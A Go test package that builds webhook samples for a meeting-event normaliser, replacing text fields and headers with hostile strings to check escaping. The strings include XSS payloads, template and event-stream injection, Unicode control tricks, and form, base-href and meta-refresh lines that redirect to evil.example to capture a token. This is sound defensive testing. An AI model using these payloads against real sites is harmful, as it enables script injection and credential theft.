// Package inspecttest has webhooks whose texts try to become more than text in whatever shows them.
package inspecttest

import (
	"encoding/json"
	"fmt"

	"github.com/meetbus/meetbus/normalize"
)

// Texts are those that hostile fields have. Each would do something, somewhere, if it were taken for markup, script, style or the
// end of a string.
func Texts() []string {
	return []string{
		`<script>alert(1)</script>`,
		`"><img src=x onerror=alert(2)>`,
		`'><svg/onload=alert(3)>`,
		`</li></ol></td></tr></table><iframe srcdoc="<script>alert(4)</script>">`,
		`<a href="javascript:alert(5)">x</a>`,
		`javascript:alert(6)`,
		`--><style>*{display:none}</style><!--`,
		`</title></textarea></style></script><script>alert(7)</script>`,
		`{{.}}{{template "head"}}${alert(8)}`,
		"line\r\ndata: <script>alert(9)</script>\n\nevent: rows\ndata: x\u2028\u2029",
		"\u202egnp.exe\u202c \u0000\u001b[31m\u0007",
		`&lt;script&gt;alert(10)&lt;/script&gt;&#x3c;script>`,
		`<base href=//evil.example><form action=//evil.example><input name=token>`,
		`<meta http-equiv=refresh content="0;url=//evil.example">`,
		"\uff1cscript\uff1ealert(11)\uff1c/script\uff1e",
	}
}

// Webhook is a request to an endpoint of a provider.
type Webhook struct {
	Provider string
	Header   map[string]string
	Body     []byte
}

// Webhooks are the samples of all providers with every text of theirs, names of members and times too, replaced by hostile ones, and
// events of unknown names. What says which event it is stays, so that every field of the catalogue gets them.
func Webhooks() []Webhook {
	texts := Texts()
	var all []Webhook
	n := 0
	next := func() string { n++; return texts[n%len(texts)] }
	for _, s := range normalize.Samples() {
		var body map[string]any
		if err := json.Unmarshal(s.Body, &body); err != nil {
			panic(fmt.Sprintf("sample %s: %v", s.Event, err)) // they are ours
		}
		all = append(all, made(s.Provider, poison(body, next).(map[string]any), next))
	}
	for _, p := range normalize.Providers() {
		for _, text := range texts {
			all = append(all, made(p, map[string]any{"event": text, "webhookType": text, "type": text, "meeting": map[string]any{"id": text}, text: text}, next))
		}
	}
	return all
}

func made(p normalize.Provider, body map[string]any, next func() string) Webhook {
	text, err := json.Marshal(body)
	if err != nil {
		panic(err)
	}
	w := Webhook{Provider: p.Name, Body: text, Header: map[string]string{"User-Agent": printable(next())}}
	for _, names := range [][]string{p.Headers.Delivery, p.Headers.Registration} {
		if len(names) > 0 {
			w.Header[names[0]] = printable(next())
		}
	}
	return w
}

// poison replaces texts, but for those that say which event it is.
func poison(v any, next func() string) any {
	switch v := v.(type) {
	case map[string]any:
		for name, inner := range v {
			if name != "event" && name != "webhookType" && name != "type" {
				v[name] = poison(inner, next)
			}
		}
		v["x"+next()] = next()
		return v
	case []any:
		for i := range v {
			v[i] = poison(v[i], next)
		}
		return v
	case string:
		return next()
	}
	return v
}

// printable is a text as a header can have it.
func printable(text string) string {
	var kept []byte
	for _, c := range []byte(text) {
		if ' ' <= c && c <= '~' {
			kept = append(kept, c)
		}
	}
	return string(kept)
}
